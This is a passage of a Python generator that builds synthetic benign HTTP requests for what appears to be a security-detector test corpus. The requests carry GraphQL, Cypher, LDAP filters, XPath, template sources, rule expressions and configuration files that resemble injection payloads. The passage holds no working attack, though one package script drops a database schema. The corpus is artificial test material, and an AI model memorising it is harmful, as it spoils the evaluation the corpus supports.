                                          {"query": "query($id: ID!) { order(id: $id) { status } }", "variables": {"id": "O-1029"}}], desc="Apollo batch of three queries")
    B.get("graphql", "api", "/graphql", [("operationName", "Feed"), ("variables", json.dumps({"first": 10})),
                                         ("extensions", json.dumps({"persistedQuery": {"version": 1, "sha256Hash": rtok(64, HEX)}}))], desc="automatic persisted query")
    B.json("graphql", "express", "/graphql", {"operationName": "IntrospectionQuery", "query": "query IntrospectionQuery { __schema { queryType { name } mutationType { name } types { ...FullType } directives { name locations args { name } } } } fragment FullType on __Type { kind name fields(includeDeprecated: true) { name args { name type { name kind } } type { name kind } } }"},
           desc="GraphiQL loading the schema on a development host", referer_path="/graphiql")
    # Neo4j: ordinary lookups by users, and whole Cypher statements from the browser/tools.
    for name in ["O'Connor", "Renée Zellweger", "Keanu"]:
        B.get("neo4j-app", "spring", "/api/graph/friends", [("name", name)])
    B.json("neo4j", "api", "/db/neo4j/tx/commit", {"statements": [{"statement": "MATCH (p:Person {name: $name})-[:ACTED_IN]->(m:Movie) RETURN m.title, m.released ORDER BY m.released DESC",
           "parameters": {"name": "Keanu Reeves"}}]}, dev=True, desc="parameterised Cypher through the HTTP API")
    B.json("neo4j", "api", "/db/neo4j/tx/commit", {"statements": [{"statement": "UNWIND $rows AS row MERGE (c:Customer {id: row.id}) SET c.name = row.name, c.updatedAt = datetime() WITH c, row MATCH (s:Segment {code: row.segment}) MERGE (c)-[:IN]->(s)",
           "parameters": {"rows": [{"id": "C-1", "name": "Acme", "segment": "SMB"}]}}]}, dev=True, desc="Cypher MERGE import")
    B.json("neo4j", "api", "/db/neo4j/tx/commit", {"statements": [{"statement": "CALL db.labels() YIELD label RETURN label ORDER BY label"}]}, dev=True, desc="schema browsing from Neo4j Browser")


def benign_ldap_xpath(B):
    B.get("phpldapadmin", "php", "/phpldapadmin/cmd.php", [("cmd", "query_engine"), ("server_id", "1"), ("base", "ou=people,dc=example,dc=com"), ("scope", "sub"),
          ("filter", "(&(objectClass=inetOrgPerson)(mail=*@example.com))"), ("display_attrs", "cn, mail, telephoneNumber"), ("orderby", "sn"), ("size_limit", "50")])
    B.get("phpldapadmin", "php", "/phpldapadmin/cmd.php", [("cmd", "template_engine"), ("server_id", "1"), ("dn", "cn=Jane O'Neil,ou=people,dc=example,dc=com")])
    B.post("phpldapadmin", "php", "/phpldapadmin/cmd.php", [("cmd", "update_confirm"), ("server_id", "1"), ("dn", "uid=jdoe,ou=people,dc=example,dc=com"),
           ("new_values[telephonenumber][0]", "+1 555 0100"), ("new_values[title][0]", "Director (Sales & Ops)")])
    B.get("lam", "php", "/lam/templates/lists/list.php", [("type", "user"), ("filter", "(|(uid=j*)(cn=*smith*))"), ("sortBy", "uid")])
    B.json("keycloak", "api", "/admin/realms/corp/components", {"name": "corp-ad", "providerId": "ldap", "providerType": "org.keycloak.storage.UserStorageProvider",
           "config": {"vendor": ["ad"], "connectionUrl": ["ldaps://dc01.corp.example.com:636"], "usersDn": ["OU=Staff,DC=corp,DC=example,DC=com"],
                      "bindDn": ["CN=svc-keycloak,OU=Service,DC=corp,DC=example,DC=com"], "usernameLDAPAttribute": ["sAMAccountName"], "rdnLDAPAttribute": ["cn"],
                      "uuidLDAPAttribute": ["objectGUID"], "userObjectClasses": ["person, organizationalPerson, user"],
                      "customUserSearchFilter": ["(&(objectCategory=person)(memberOf=CN=App-Users,OU=Groups,DC=corp,DC=example,DC=com)(!(userAccountControl:1.2.840.113556.1.4.803:=2)))"],
                      "searchScope": ["2"], "editMode": ["READ_ONLY"]}})
    B.json("freeipa", "api", "/ipa/session/json", {"method": "user_find/1", "params": [["smith"], {"all": True, "sizelimit": 100, "version": "2.253"}], "id": 0},
           extra=[("Referer", "https://ipa.example.com/ipa")])
    B.json("freeipa", "api", "/ipa/session/json", {"method": "group_add_member/1", "params": [["admins"], {"user": ["jdoe"], "version": "2.253"}], "id": 0})
    B.post("jenkins-ldap", "jee", "/configureSecurity/configure", [("_.server", "ldap://ldap.example.com"), ("_.rootDN", "dc=example,dc=com"),
           ("_.userSearch", "uid={0}"), ("_.groupSearchFilter", "(&(objectclass=groupOfNames)(member={0}))"), ("Jenkins-Crumb", rtok(32, HEX))])
    B.upload("grafana-ldap", "go", "/api/admin/ldap/config", [("file", '[[servers]]\nhost = "ldap.example.com"\nport = 636\nuse_ssl = true\nbind_dn = "cn=grafana,ou=svc,dc=example,dc=com"\n'
             'search_filter = "(cn=%s)"\nsearch_base_dns = ["dc=example,dc=com"]\n\n[[servers.group_mappings]]\ngroup_dn = "cn=admins,ou=groups,dc=example,dc=com"\norg_role = "Admin"\n', "ldap.toml", "application/toml")])
    B.json("ad-report", "api", "/api/reports/ad/run", {"name": "Disabled accounts", "base": "DC=corp,DC=example,DC=com",
           "filter": "(&(objectCategory=person)(objectClass=user)(userAccountControl:1.2.840.113556.1.4.803:=2))", "attributes": ["sAMAccountName", "whenChanged"]})
    B.json("ad-report", "api", "/api/reports/ad/run", {"name": "Stale computers", "filter": "(&(objectCategory=computer)(lastLogonTimestamp<=133500000000000000))", "attributes": ["cn", "operatingSystem"]})
    for q in ["smi*", "Jane Doe (Contractor)", "*@example.org", "O'Neil", "Müller-Lüdenscheidt"]:
        B.get("directory", "php", "/directory/search", [("q", q)])
    B.upload("gitlab-ldap", "rails", "/admin/application_settings/ldap", [("config", "main:\n  label: 'Corp AD'\n  host: 'dc01.corp.example.com'\n  port: 636\n  uid: 'sAMAccountName'\n"
             "  base: 'OU=Staff,DC=corp,DC=example,DC=com'\n  user_filter: '(&(objectClass=user)(memberOf=CN=GitLab,OU=Groups,DC=corp,DC=example,DC=com))'\n", "gitlab_ldap.yml", "application/x-yaml")])
    # XPath as a legitimate API parameter.
    B.get("jenkins-xpath", "jee", "/api/xml", [("xpath", "//job[color='red']/name"), ("wrapper", "failing")])
    B.get("jenkins-xpath", "jee", "/job/backend/api/xml", [("tree", "builds[number,result,timestamp]{0,10}"), ("xpath", "/*/build[result='FAILURE'][1]/number")])
    B.get("jenkins-xpath", "jee", "/api/json", [("tree", "jobs[name,color,lastBuild[number,result]]")])
    B.get("xml-viewer", "jee", "/catalog/search", [("title", "XPath and XPointer (O'Reilly)")])
    B.json("xpath-tool", "express", "/api/tools/xpath", {"xml": "<bookstore><book price=\"39.95\"><title>Learning XML</title></book></bookstore>", "expression": "/bookstore/book[@price>35]/title"},
           dev=True, desc="XPath tester")
    B.body("existdb", "jee", "/exist/rest/db/library", '<query xmlns="http://exist.sourceforge.net/NS/exist" start="1" max="20"><text><![CDATA[for $b in //book where $b/author = "Tolkien" order by $b/year return $b/title]]></text></query>',
           "application/xml", dev=True, desc="XQuery FLWOR to eXist-db REST")


def benign_templates(B):
    # Merge tags and placeholders in ordinary product fields.
    B.json("mailchimp", "api", "/3.0/campaigns/8a1b/content", {"html": "<p>Hi *|FNAME|*,</p><p>Your order *|ORDER_ID|* ships today.</p><p><a href=\"*|UNSUB|*\">Unsubscribe</a></p>"}, method="PUT")
    B.json("sendgrid", "api", "/v3/mail/send", {"from": {"email": "shop@example.com"}, "template_id": "d-4f1c2b", "personalizations": [{"to": [{"email": "ana@example.org"}],
           "dynamic_template_data": {"first_name": "Ana", "items": [{"name": "Mug", "qty": 2}], "total": "24.00"}}]})
    B.json("customerio", "api", "/v1/campaigns/12/actions/88", {"subject": "{{ customer.first_name | default: 'there' }}, your cart is waiting", "preheader": "Still thinking it over?"}, method="PUT")
    B.json("zendesk", "api", "/api/v2/macros.json", {"macro": {"title": "Refund issued", "actions": [{"field": "comment_value_html", "value": "<p>Hi {{ticket.requester.first_name}},</p><p>We refunded order {{ticket.external_id}}.</p>"}]}})
    B.json("jira-automation", "spring", "/rest/cb-automation/latest/project/10000/rule", {"name": "Due date reminder", "actions": [{"type": "comment",
           "value": "{{issue.assignee.displayName}}, {{issue.key}} is due {{issue.duedate.jiraDate}} ({{now.diff(issue.duedate).days}} days)."}]})
    B.json("alertmanager", "go", "/api/v1/rules", {"groups": [{"name": "node", "rules": [{"alert": "InstanceDown", "expr": "up == 0", "for": "5m",
           "annotations": {"summary": "Instance {{ $labels.instance }} down", "description": "{{ $labels.instance }} of job {{ $labels.job }} has been down for more than 5 minutes. Value: {{ $value | humanize }}"}}]}]})
    B.json("grafana-alert", "go", "/api/v1/provisioning/templates/ops", {"template": "{{ define \"ops.title\" }}[{{ .Status | toUpper }}] {{ .CommonLabels.alertname }}{{ end }}\n{{ define \"ops.body\" }}{{ range .Alerts }}{{ .Labels.instance }}: {{ .Annotations.summary }}\n{{ end }}{{ end }}"}, method="PUT")
    B.json("postman", "api", "/collections/9a1f", {"collection": {"info": {"name": "Users API", "schema": "https://schema.getpostman.com/json/collection/v2.1.0/collection.json"},
           "item": [{"name": "List users", "request": {"method": "GET", "url": "{{baseUrl}}/users?page={{page}}", "header": [{"key": "Authorization", "value": "Bearer {{token}}"}]}}]}}, method="PUT")
    B.json("homeassistant", "express", "/api/template", {"template": "{{ states('sensor.living_room_temperature') | float(0) | round(1) }} °C, {{ 'open' if is_state('binary_sensor.window', 'on') else 'closed' }}"})
    B.json("twilio-studio", "api", "/v2/Flows/FW1", {"definition": {"states": [{"name": "greet", "type": "send-message", "properties": {"body": "Hi {{contact.channel.address}}, your code is {{flow.variables.code}}"}}]}})
    B.json("n8n", "express", "/rest/workflows/17", {"nodes": [{"name": "Set", "type": "n8n-nodes-base.set", "parameters": {"values": {"string": [{"name": "greeting", "value": "=Hello {{ $json.firstName }}, you have {{ $json.items.length }} items"}]}}}]}, method="PATCH")
    B.post("magento", "php", "/admin/admin/email_template/save/", [("template_code", "Order shipped (custom)"), ("template_subject", "{{trans \"Your %store_name order has shipped\" store_name=$store.frontend_name}}"),
           ("template_text", "{{template config_path=\"design/email/header_template\"}}<p>{{trans \"Hello %name,\" name=$order_data.customer_name}}</p>{{var order.increment_id}}{{template config_path=\"design/email/footer_template\"}}"),
           ("form_key", rtok(16, ALNUM))])
    B.post("angular-cms", "express", "/cms/blocks/save", [("title", "Price badge"), ("html", "<span class=\"badge\">{{ 'PRICE_FROM' | translate }} {{ product.price | currency:'EUR' }}</span>")])
    B.get("preview", "flask", "/greeting", [("name", "Ada {Lovelace}")])
    B.get("preview", "spring", "/doc/view", [("lang", "fr-CA")])
    B.get("preview", "express", "/render", [("name", "Sam <3")])
    # Whole template sources saved in editors (dev-content).
    tmpl = [
        ("shopify", "api", "/admin/api/2024-04/themes/1287/assets.json", "PUT", {"asset": {"key": "sections/featured-collection.liquid", "value": "{% assign limit = section.settings.products_to_show %}\n<div class=\"grid\">\n{% for product in collections[section.settings.collection].products limit: limit %}\n  {% render 'product-card', product: product, show_vendor: section.settings.show_vendor %}\n{% else %}\n  <p>{{ 'collections.empty' | t }}</p>\n{% endfor %}\n</div>\n{% schema %}{\"name\": \"Featured collection\", \"settings\": [{\"type\": \"collection\", \"id\": \"collection\"}]}{% endschema %}"}}),
        ("craft-twig", "php", "/admin/actions/templates/save", "POST", {"path": "_partials/nav.twig", "source": "{% set pages = craft.entries.section('pages').level(1).all() %}\n<nav>{% for p in pages %}<a href=\"{{ p.url }}\"{% if p.id == entry.id ?? null %} aria-current=\"page\"{% endif %}>{{ p.title|e }}</a>{% endfor %}</nav>\n{{ include('_partials/search', {placeholder: 'Search…'|t}) }}"}),
        ("liferay-ftl", "jee", "/api/jsonws/ddm.ddmtemplate/update-template", "POST", {"templateId": 40213, "script": "<#if entries?has_content>\n<ul>\n<#list entries as entry>\n  <#assign renderer = entry.getAssetRenderer()>\n  <li><a href=\"${renderer.getURLViewInContext(renderRequest, renderResponse, '')}\">${htmlUtil.escape(entry.getTitle(locale))}</a></li>\n</#list>\n</ul>\n</#if>"}),
        ("ghost-hbs", "express", "/ghost/api/admin/themes/upload", "POST", {"file": "post.hbs", "content": "{{!< default}}\n{{#post}}\n<article class=\"{{post_class}}\">\n  <h1>{{title}}</h1>\n  {{#if feature_image}}<img src=\"{{img_url feature_image size=\"l\"}}\" alt=\"{{title}}\">{{/if}}\n  {{content}}\n  {{#foreach tags}}<a href=\"{{url}}\">{{name}}</a>{{/foreach}}\n</article>\n{{/post}}"}),
        ("rails-erb", "rails", "/admin/email_templates/14", "PATCH", {"email_template": {"body": "<p>Hi <%= @user.first_name %>,</p>\n<% if @order.items.any? %>\n<ul><% @order.items.each do |item| %><li><%= item.name %> &times; <%= item.quantity %></li><% end %></ul>\n<% end %>\n<p><%= link_to 'Track your order', order_url(@order) %></p>"}}),
        ("hubspot-hubl", "api", "/cms/v3/source-code/published/content/modules/cta.module/module.html", "PUT", {"content": "{% set btn = module.button %}\n<a class=\"cta {{ 'cta--wide' if module.wide }}\" href=\"{{ btn.link.url.href|escape_url }}\">{{ btn.text|escape }}</a>\n{% require_css %}<style>.cta{padding:1rem}</style>{% end_require_css %}"}),
        ("jinja-mail", "flask", "/admin/templates/welcome", "POST", {"name": "welcome.html", "source": "{% extends 'mail/base.html' %}\n{% block body %}\n<p>Welcome {{ user.name|e }}!</p>\n{% for tip in tips[:3] %}<li>{{ loop.index }}. {{ tip }}</li>{% endfor %}\n{% endblock %}"}),
        ("thymeleaf-mail", "spring", "/admin/mail-templates/7", "PUT", {"html": "<p th:text=\"#{greeting(${user.firstName})}\">Hi</p>\n<table><tr th:each=\"line : ${order.lines}\"><td th:text=\"${line.sku}\"></td><td th:text=\"${#numbers.formatDecimal(line.total, 1, 2)}\"></td></tr></table>"}),
        ("velocity-mail", "jee", "/secure/admin/EditNotificationTemplate.jspa", "POST", {"template": "#set($assignee = $issue.assignee)\n#if($assignee)Assigned to $assignee.displayName#else Unassigned#end\n#foreach($c in $comments)- $c.body\n#end"}),
        ("razor-view", "api", "/api/cms/views/Receipt.cshtml", "PUT", {"source": "@model ReceiptViewModel\n<h2>Receipt @Model.Number</h2>\n@foreach (var line in Model.Lines) {\n  <p>@line.Description — @line.Total.ToString(\"C\")</p>\n}\n@if (Model.Discount > 0) { <p>Discount: @Model.Discount</p> }"}),
        ("ejs-view", "express", "/admin/views/invoice", "POST", {"source": "<h1>Invoice <%= invoice.number %></h1>\n<% invoice.lines.forEach(function(l){ %><tr><td><%= l.name %></td><td><%= l.total.toFixed(2) %></td></tr><% }) %>"}),
        ("smarty-tpl", "php", "/admin/templates/save.php", "POST", {"file": "product.tpl", "source": "{extends file='layout.tpl'}\n{block name=content}\n<h1>{$product.name|escape}</h1>\n{foreach $product.images as $img}<img src=\"{$img.url}\" alt=\"{$product.name|escape}\">{/foreach}\n{if $product.stock > 0}In stock{else}Sold out{/if}\n{/block}"}),
        ("nunjucks-site", "express", "/api/site/layouts/base.njk", "PUT", {"source": "<!doctype html><title>{{ title }} | {{ site.name }}</title>\n{% for item in navigation %}<a href=\"{{ item.url | url }}\">{{ item.title }}</a>{% endfor %}\n{% block content %}{% endblock %}"}),
        ("go-tmpl", "go", "/api/v1/status-pages/3/template", "PUT", {"template": "{{ range .Components }}<li class=\"{{ .Status | lower }}\">{{ .Name }}{{ if .Incident }} — {{ .Incident.Title }}{{ end }}</li>{{ end }}"}),
    ]
    for area, stack, path, method, obj in tmpl:
        if stack in ("php",) and method == "POST":
            B.post(area, stack, path, list(obj.items()), dev=True, desc="template source saved in an editor")
        else:
            B.json(area, stack, path, obj, dev=True, method=method, desc="template source saved in an editor")


def benign_expressions(B):
    bpmn = ('<?xml version="1.0" encoding="UTF-8"?>\n<bpmn:definitions xmlns:bpmn="http://www.omg.org/spec/BPMN/20100524/MODEL" xmlns:camunda="http://camunda.org/schema/1.0/bpmn" id="d1" targetNamespace="http://bpmn.io/schema/bpmn">\n'
            '<bpmn:process id="invoice" isExecutable="true"><bpmn:startEvent id="s"/><bpmn:exclusiveGateway id="g"/>\n'
            '<bpmn:sequenceFlow id="f1" sourceRef="g" targetRef="approve"><bpmn:conditionExpression xsi:type="bpmn:tFormalExpression" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">${amount &gt; 1000 &amp;&amp; !vipCustomer}</bpmn:conditionExpression></bpmn:sequenceFlow>\n'
            '<bpmn:userTask id="approve" camunda:assignee="${initiator}" camunda:dueDate="${dateTime().plusDays(2).toDate()}"/></bpmn:process></bpmn:definitions>')
    B.upload("camunda", "spring", "/engine-rest/deployment/create", [("deployment-name", "invoice", None, None), ("enable-duplicate-filtering", "true", None, None),
             ("data", bpmn, "invoice.bpmn", "application/octet-stream")])
    B.json("rules-ui", "api", "/api/v1/rules", {"name": "gold-discount", "expression": "order.total > 100 && customer.tier == 'GOLD' && !order.items.isEmpty()", "enabled": True})
    B.json("rules-ui", "spring", "/api/rules/validate", {"name": "late", "condition": "shipment.eta.isAfter(order.promisedDate.plusDays(2))"})
    B.json("k8s-cel", "go", "/apis/admissionregistration.k8s.io/v1/validatingadmissionpolicies", {"apiVersion": "admissionregistration.k8s.io/v1", "kind": "ValidatingAdmissionPolicy",
           "metadata": {"name": "replica-limit"}, "spec": {"failurePolicy": "Fail", "matchConstraints": {"resourceRules": [{"apiGroups": ["apps"], "apiVersions": ["v1"], "operations": ["CREATE", "UPDATE"], "resources": ["deployments"]}]},
           "validations": [{"expression": "object.spec.replicas <= 5", "message": "too many replicas"}, {"expression": "object.metadata.labels.all(k, k.startsWith('app.') || k == 'team')"}]}})
    B.json("logicapps", "api", "/subscriptions/1/resourceGroups/rg/providers/Microsoft.Logic/workflows/approve", {"properties": {"definition": {"actions": {"Condition": {"type": "If",
           "expression": {"and": [{"equals": ["@triggerBody()?['Status']", "Approved"]}]}, "actions": {"Send": {"type": "ApiConnection", "inputs": {"body": {"Subject": "@{triggerBody()?['Title']} approved"}}}}}}}}}, method="PUT")
    B.json("stepfunctions", "api", "/", {"stateMachineArn": "arn:aws:states:eu-west-1:111122223333:stateMachine:orders", "input": json.dumps({"detail": {"orderId": "O-1"}}),
           "name": "run-2024-06-03"}, extra=[("X-Amz-Target", "AWSStepFunctions.StartExecution")], ctype="application/x-amz-json-1.0")
    B.json("jsonata", "express", "/api/mappings/preview", {"expression": "$sum(Account.Order.Product.(Price * Quantity))", "input": {"Account": {"Order": [{"Product": [{"Price": 2, "Quantity": 3}]}]}}})
    B.json("airtable", "api", "/v0/meta/bases/app1/tables/tbl1/fields", {"name": "Late?", "type": "formula", "options": {"formula": "IF(AND({Status}!='Done', IS_BEFORE({Due}, TODAY())), 'Late', '')"}})
    B.json("notion", "api", "/v1/databases/abc", {"properties": {"Gross": {"formula": {"expression": "prop(\"Price\") * (1 + prop(\"VAT\"))"}}}}, method="PATCH")
    B.json("gateway-route", "spring", "/actuator/gateway/routes/orders", {"id": "orders", "uri": "lb://orders-service", "predicates": [{"name": "Path", "args": {"_genkey_0": "/api/orders/**"}}],
           "filters": [{"name": "RewritePath", "args": {"regexp": "/api/(?<segment>.*)", "replacement": "/${segment}"}}, {"name": "AddRequestHeader", "args": {"name": "X-Gateway", "value": "edge"}}], "order": 0})
    B.json("spel-ui", "spring", "/api/reports/columns", {"name": "fullName", "expression": "firstName + ' ' + lastName"})
    B.json("jexl-ui", "api", "/api/v1/segments", {"name": "young-eu", "rule": "user.age < 30 && user.country in ['DE','FR','NL']"})
    B.json("python-derived", "flask", "/api/v1/columns/derived", {"name": "margin", "formula": "(revenue - cost) / revenue"})
    B.get("calc", "flask", "/calc", [("expr", "(12.5 * 4) / 3 + 2**3")])
    B.get("calc", "express", "/api/compute", [("expr", "sqrt(16) + max(3, 7)")])
    B.json("excel-like", "express", "/api/calc", {"formula": "SUM(B2:B14) - AVERAGE(C2:C14)"})


def benign_configs(B):
    cfn = ("AWSTemplateFormatVersion: '2010-09-09'\nParameters:\n  BucketName:\n    Type: String\nResources:\n  Bucket:\n    Type: AWS::S3::Bucket\n    Properties:\n      BucketName: !Ref BucketName\n"
           "  Policy:\n    Type: AWS::S3::BucketPolicy\n    Properties:\n      Bucket: !Ref Bucket\n      PolicyDocument:\n        Statement:\n          - Effect: Allow\n            Principal: '*'\n"
           "            Action: s3:GetObject\n            Resource: !Sub 'arn:aws:s3:::${BucketName}/*'\n            Condition: !If [IsProd, !Ref AWS::NoValue, {Bool: {aws:SecureTransport: true}}]\nOutputs:\n  Arn:\n    Value: !GetAtt Bucket.Arn\n")
    B.upload("cloudformation", "api", "/api/stacks/validate", [("template", cfn, "bucket.yaml", "application/x-yaml")])
    B.body("gitlab-ci", "rails", "/api/v4/ci/lint", json.dumps({"content": ".setup:\n  script:\n    - apt-get update && apt-get install -y libpq-dev\n\ntest:\n  image: ruby:3.3\n  script:\n    - !reference [.setup, script]\n    - bundle exec rspec\n  rules:\n    - if: $CI_PIPELINE_SOURCE == \"merge_request_event\"\n"}),
           "application/json")
    B.upload("compose", "go", "/api/stacks/create", [("name", "shop", None, None), ("file", "services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: ${DB_PASSWORD:?set it}\n    command: [\"postgres\", \"-c\", \"shared_preload_libraries=pg_stat_statements\"]\n"
             "  web:\n    image: shop/web:2.4\n    depends_on: [db]\n    healthcheck:\n      test: [\"CMD-SHELL\", \"curl -fsS http://localhost:8000/healthz || exit 1\"]\n", "docker-compose.yml", "application/x-yaml")])
    B.json("k8s", "go", "/apis/batch/v1/namespaces/shop/cronjobs", {"apiVersion": "batch/v1", "kind": "CronJob", "metadata": {"name": "db-backup"}, "spec": {"schedule": "0 */6 * * *", "jobTemplate": {"spec": {"template": {"spec": {
           "restartPolicy": "OnFailure", "containers": [{"name": "backup", "image": "postgres:16", "command": ["sh", "-c", "pg_dump -Fc \"$DATABASE_URL\" > /backup/shop-$(date +%F).dump && find /backup -mtime +7 -delete"],
           "volumeMounts": [{"name": "b", "mountPath": "/backup"}]}], "volumes": [{"name": "b", "persistentVolumeClaim": {"claimName": "backups"}}]}}}}}})
    B.upload("openapi", "spring", "/api/specs/import", [("file", "openapi: 3.0.3\ninfo:\n  title: Orders\n  version: 1.0.0\npaths:\n  /orders/{id}:\n    get:\n      parameters:\n        - $ref: '#/components/parameters/id'\n"
             "      responses:\n        '200':\n          content:\n            application/json:\n              schema:\n                $ref: '#/components/schemas/Order'\ncomponents:\n  parameters:\n    id: {name: id, in: path, required: true, schema: {type: string}}\n"
             "  schemas:\n    Order: {type: object, properties: {total: {type: number}}}\n", "orders.yaml", "application/x-yaml")])
    B.upload("ansible", "flask", "/api/v2/projects/3/playbooks", [("file", "- hosts: web\n  become: true\n  tasks:\n    - name: Render nginx config\n      template:\n        src: nginx.conf.j2\n        dest: /etc/nginx/sites-enabled/{{ inventory_hostname }}.conf\n"
             "      notify: reload nginx\n    - name: Ensure app user\n      user: {name: app, shell: /bin/bash}\n  handlers:\n    - name: reload nginx\n      service: {name: nginx, state: reloaded}\n", "site.yml", "application/x-yaml")])
    B.upload("homeassistant", "express", "/api/config/upload", [("file", "homeassistant:\n  name: Home\n  customize: !include customize.yaml\nhttp:\n  ssl_certificate: !secret ssl_cert\nsensor: !include_dir_merge_list sensors/\n", "configuration.yaml", "application/x-yaml")])
    B.body("yaml-std-tags", "rails", "/api/v1/imports", "---\nname: fixtures\ncreated: !!timestamp 2024-06-03T10:00:00Z\nlogo: !!binary |\n  R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7\ntags: !!set\n  ? beta\n  ? ops\nsteps: !!omap\n  - fetch: 1\n  - build: 2\n", "application/x-yaml")
    B.upload("gha", "go", "/api/workflows/lint", [("file", "name: ci\non: [push]\njobs:\n  test:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: npm ci && npm test -- --coverage\n"
             "      - run: echo \"sha=${{ github.sha }}\" >> $GITHUB_OUTPUT\n      - uses: actions/upload-artifact@v4\n        with: {name: coverage, path: coverage/}\n        env:\n          NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n", "ci.yml", "application/x-yaml")])
    B.upload("helm", "go", "/api/charts/values", [("file", "image:\n  repository: shop/web\n  tag: \"{{ .Chart.AppVersion }}\"\ningress:\n  hosts:\n    - host: \"{{ .Release.Name }}.apps.example.com\"\nenv:\n  - name: JAVA_OPTS\n    value: \"-Xmx512m -Dspring.profiles.active=prod\"\n", "values.yaml", "application/x-yaml")])
    log4j = ('<?xml version="1.0" encoding="UTF-8"?>\n<Configuration status="WARN">\n  <Properties><Property name="logDir">${sys:app.log.dir:-/var/log/app}</Property></Properties>\n'
             '  <Appenders><RollingFile name="File" fileName="${logDir}/app.log" filePattern="${logDir}/app-%d{yyyy-MM-dd}.log.gz">\n'
             '    <PatternLayout pattern="%d{ISO8601} %-5p [%t] %c{1} [req=${ctx:requestId}] - %m%n"/><TimeBasedTriggeringPolicy/></RollingFile></Appenders>\n'
             '  <Loggers><Root level="info"><AppenderRef ref="File"/></Root></Loggers>\n</Configuration>')
    B.upload("log4j2", "spring", "/admin/logging/upload", [("file", log4j, "log4j2.xml", "application/xml")])
    B.upload("spring-yml", "spring", "/admin/config/upload", [("file", "spring:\n  datasource:\n    url: ${DB_URL:jdbc:postgresql://db:5432/shop}\n    username: ${DB_USER:shop}\n  jpa:\n    properties:\n      hibernate.dialect: org.hibernate.dialect.PostgreSQLDialect\n"
             "app:\n  region: '#{systemProperties[''user.region''] ?: ''eu''}'\n  cron: '0 0/15 * * * *'\n", "application.yml", "application/x-yaml"), ("apply", "false", None, None)])
    pom = ('<?xml version="1.0" encoding="UTF-8"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="http://maven.apache.org/POM/4.0.0 https://maven.apache.org/xsd/maven-4.0.0.xsd">\n'
           '  <modelVersion>4.0.0</modelVersion><groupId>com.example</groupId><artifactId>orders</artifactId><version>${revision}</version>\n'
           '  <properties><revision>2.4.0-SNAPSHOT</revision><java.version>17</java.version></properties>\n'
           '  <dependencies><dependency><groupId>org.postgresql</groupId><artifactId>postgresql</artifactId><version>42.7.3</version></dependency></dependencies>\n</project>')
    B.upload("maven", "jee", "/api/sbom/generate", [("pom", pom, "pom.xml", "application/xml")])
    webcfg = ('<?xml version="1.0"?>\n<configuration xmlns:xdt="http://schemas.microsoft.com/XML-Document-Transform">\n  <connectionStrings>\n'
              '    <add name="Shop" connectionString="Server=sql01;Database=Shop;Integrated Security=SSPI;" xdt:Transform="SetAttributes" xdt:Locator="Match(name)"/>\n'
              '  </connectionStrings>\n  <system.web><compilation xdt:Transform="RemoveAttributes(debug)"/></system.web>\n</configuration>')
    B.upload("webconfig", "aspnet", "/Deploy/Transforms/Upload", [("file", webcfg, "Web.Release.config", "application/xml")])
    B.upload("nginx", "go", "/api/proxies/config", [("file", "server {\n  listen 443 ssl;\n  server_name shop.example.com;\n  location ~* \\.(?:css|js|png)$ { expires 30d; }\n  location /api/ {\n    proxy_pass http://backend;\n    proxy_set_header X-Forwarded-For $proxy_add_x_forwarded_for;\n  }\n  location = /.well-known/security.txt { root /var/www; }\n}\n", "shop.conf", "text/plain")])
    B.upload("terraform", "go", "/api/workspaces/ws-1/vars/import", [("file", "region = \"eu-west-1\"\nbucket = \"shop-${var.env}-assets\"\ncidr_blocks = [\"10.0.0.0/16\"]\ntags = { team = \"web\", cost_center = \"1234\" }\n", "prod.tfvars", "text/plain")])
    B.upload("prom-config", "go", "/api/config/scrape", [("file", "scrape_configs:\n  - job_name: node\n    static_configs:\n      - targets: ['node1:9100', 'node2:9100']\n    relabel_configs:\n      - source_labels: [__address__]\n        regex: '(.*):9100'\n        target_label: instance\n        replacement: '${1}'\n", "prometheus.yml", "application/x-yaml")])
    B.json("argocd", "go", "/api/v1/applications", {"metadata": {"name": "shop"}, "spec": {"project": "default", "source": {"repoURL": "https://git.example.com/platform/shop.git", "path": "deploy/overlays/prod",
           "targetRevision": "HEAD", "kustomize": {"images": ["shop/web:2.4.1"]}}, "destination": {"server": "https://kubernetes.default.svc", "namespace": "shop"},
           "syncPolicy": {"automated": {"prune": True, "selfHeal": True}, "syncOptions": ["CreateNamespace=true"]}}})
    B.json("package-json", "express", "/api/projects/7/manifest", {"name": "shop-web", "version": "2.4.1", "scripts": {"build": "tsc -p . && vite build", "test": "vitest run",
           "db:reset": "psql \"$DATABASE_URL\" -c 'DROP SCHEMA public CASCADE; CREATE SCHEMA public;' && npm run migrate", "postinstall": "node scripts/check-node.js || true"}}, method="PUT")
    # Office documents (real ZIP containers) uploaded as they are.
    for i, (kind, path, fname, ct, stack) in enumerate([("docx", "/api/resumes/upload", "cv_ana_ortega.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "django"),
                                                        ("xlsx", "/Import/Inventory", "stock_june.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", "aspnet"),
                                                        ("docx", "/documents/convert", "minutes.docx", "application/vnd.openxmlformats-officedocument.wordprocessingml.document", "spring")]):
        B.upload_bytes("office", stack, path, [("file", ooxml(kind), fname, ct), ("folder", "inbox", None, None)])


def benign_serialised(B):
    for i, texts in enumerate([["Hello"], ["Search", "All regions"], ["Q2 report", "Drop shipping", "Union"]]):
        vs = viewstate_benign(texts, 20 if i % 2 == 0 else 32)
        B.post("viewstate", "aspnet", ["/Default.aspx", "/Reports/Sales.aspx", "/Account/Settings.aspx"][i],
               [("__EVENTTARGET", "ctl00$Main$btnSearch" if i else ""), ("__EVENTARGUMENT", ""), ("__VIEWSTATE", b64(vs)), ("__VIEWSTATEGENERATOR", "CA0B0334"),
                ("__EVENTVALIDATION", b64(eventvalidation_benign(3 + i))), ("ctl00$Main$txtSearch", ["", "union station parking", "select comfort"][i])])
    B.json("jsonnet-app", "api", "/api/shipments", {"$type": "Contoso.Shipping.Models.ParcelShipment, Contoso.Shipping", "carrier": "DHL",
